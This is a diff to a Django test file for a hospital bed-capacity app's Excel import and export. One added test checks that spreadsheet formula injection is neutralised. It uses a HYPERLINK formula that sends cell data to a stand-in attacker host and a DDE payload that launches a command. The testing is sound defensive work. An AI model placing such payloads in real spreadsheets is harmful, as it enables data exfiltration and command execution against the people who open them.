@@ -11,9 +11,9 @@ from openpyxl import Workbook, load_workbook
 from fagnett.accounts.models import User
 from fagnett.capacity.excel import COLUMNS, SHEET
 from fagnett.capacity.models import CapacityEntry, ReportRound
-from fagnett.capacity.testing import make_entry, make_round, units_of
-from fagnett.core.testing import World
+from fagnett.capacity.tests.factories import make_entry, make_round, units_of
 from fagnett.organisations.models import Hospital, Unit
+from tests.factories import World
 
 pytestmark = pytest.mark.django_db
 
@@ -207,3 +207,73 @@ def test_big_changes_from_the_last_round_are_confirmed_before_import(world: Worl
     response = client.post(f"/capacity/rounds/{round_.pk}/upload/", {"file": upload, "confirm_jumps": "on"})
     assert response.status_code == 302
     assert CapacityEntry.objects.get(round=round_, category="K3", scenario="normal").staffed_beds == 11
+
+
+LINK = '=HYPERLINK("https://evil.example/?d="&A1;"Klikk her")'
+
+
+def test_template_names_and_comments_are_text_and_come_back_unchanged(
+    world: World, login_as: Any, round_: ReportRound
+) -> None:
+    """A comment or a unit's name that reads like a formula is a text cell marked "quote prefix" in the template
+    (never a formula, no apostrophe added), and the file uploaded as it was keeps the comment word for word."""
+    unit = units_of(world)[0]
+    Unit.objects.filter(pk=unit.pk).update(name="+cmd|' /C calc'!A0")
+    for category in ("K1", "K2", "K3"):
+        for scenario in ("normal", "low_activity", "surge_7d", "max_surge"):
+            make_entry(
+                round_, unit, category, scenario, comment=LINK if (category, scenario) == ("K1", "normal") else ""
+            )
+    client = login_as("reporter")
+    response = client.get(f"/capacity/rounds/{round_.pk}/template.xlsx")
+    sheet = load_workbook(io.BytesIO(response.content))[SHEET]
+    comment = sheet.cell(row=2, column=COLUMNS.index("comment") + 1)
+    name = sheet.cell(row=2, column=COLUMNS.index("unit") + 1)
+    assert (comment.value, comment.data_type, comment.quotePrefix) == (LINK, "s", True)
+    assert (name.value, name.data_type, name.quotePrefix) == ("+cmd|' /C calc'!A0", "s", True)
+    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
+
+    assert _upload(client, round_, response.content).status_code == 302
+    saved = CapacityEntry.objects.get(round=round_, unit=unit, category="K1", scenario="normal", is_current=True)
+    assert (saved.source, saved.comment) == ("excel", LINK)
+
+
+def test_a_file_over_the_row_limit_is_refused_naming_the_limit(
+    world: World, login_as: Any, round_: ReportRound, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from fagnett.capacity import excel
+
+    client = login_as("reporter")
+    book = _template(client, round_)
+    for row in range(2, 14):
+        _set(book, row, "physical_beds", 8)
+        _set(book, row, "staffed_beds", 6)
+    monkeypatch.setattr(excel, "MAX_ROWS", 5)  # the child process that reads the file is forked: it sees this too
+    problems = _problems(_upload(client, round_, _bytes(book)))
+    assert problems == [
+        "Sheet Capacity, row 7: The file has more than 5 rows (blank ones counted); the import reads at most that "
+        "many. Delete the rows you do not use, or split the file."
+    ]
+    assert not CapacityEntry.objects.exists()
+
+
+def test_a_template_or_export_over_its_bound_is_refused_with_a_message(
+    world: World, login_as: Any, round_: ReportRound, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from fagnett.capacity import excel
+
+    make_entry(round_, units_of(world)[0])
+    make_entry(round_, units_of(world)[0], "K2")
+    monkeypatch.setattr(excel, "MAX_ROWS", 11)  # the reporter's template has 12 rows
+    monkeypatch.setattr(excel, "MAX_EXPORT_ROWS", 1)
+    for role, url in [
+        ("reporter", f"/capacity/rounds/{round_.pk}/template.xlsx"),
+        ("coordinator", f"/capacity/rounds/{round_.pk}/export.csv"),
+        ("coordinator", f"/capacity/rounds/{round_.pk}/export.xlsx"),
+    ]:
+        client = login_as(role)
+        response = client.get(url)
+        assert response.status_code == 302 and "Content-Disposition" not in response, url
+        assert response["Location"] == round_.get_absolute_url()
+        page = client.get(response["Location"]).content.decode()
+        assert "Nothing was exported: one file holds at most" in page, url
